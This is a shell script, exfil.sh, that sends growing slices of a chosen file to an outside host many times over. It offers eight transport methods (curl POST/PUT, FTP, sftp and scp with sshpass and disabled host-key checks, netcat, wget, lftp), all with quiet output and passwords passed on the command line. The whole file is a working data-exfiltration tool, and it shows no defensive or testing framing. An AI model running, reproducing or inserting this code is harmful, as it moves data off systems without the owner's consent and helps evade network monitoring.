#!/bin/sh
# Much data out, several times: exfil.sh HOW WHERE FILE TIMES [USER PASSWORD]; each time another piece of the file.
how=$1 where=$2 file=$3 times=$4 user=$5 password=$6
port=${where##*:} host=${where%%:*}
piece=$(mktemp)
trap 'rm -f "$piece"' EXIT
number=0
while [ "$number" -lt "$times" ]; do
  number=$((number + 1))
  head -c $(((number * 1373 + number * number * 211) * 1000)) "$file" > "$piece"
  case $how in
    post) curl -sk -m 40 -o /dev/null --data-binary "@$piece" "$where/$number" ;;
    put) curl -sk -m 40 -o /dev/null -T "$piece" "$where/$number" ;;
    ftp) curl -s -m 40 -o /dev/null -u "$user:$password" -T "$piece" "ftp://$host:$port/out-$number" ;;
    sftp) echo "put $piece out-$number" | sshpass -p "$password" sftp -q -P "$port" -o BatchMode=no -b - \
           -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password \
           -o PubkeyAuthentication=no "$user@$host" > /dev/null ;;
    nc) timeout 40 nc -w 2 -N "$host" "$port" < "$piece" > /dev/null ;;
    wget) wget -q -T 40 -O /dev/null --post-file "$piece" "$where/$number" ;;
    lftp) lftp -u "$user,$password" -p "$port" -e "set net:max-retries 1; put $piece -o out-$number; bye" "$host" ;;
    scp) sshpass -p "$password" scp -q -P "$port" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
           -o PreferredAuthentications=password -o PubkeyAuthentication=no "$piece" "$user@$host:out-$number" ;;
  esac
  sleep 1.5
done
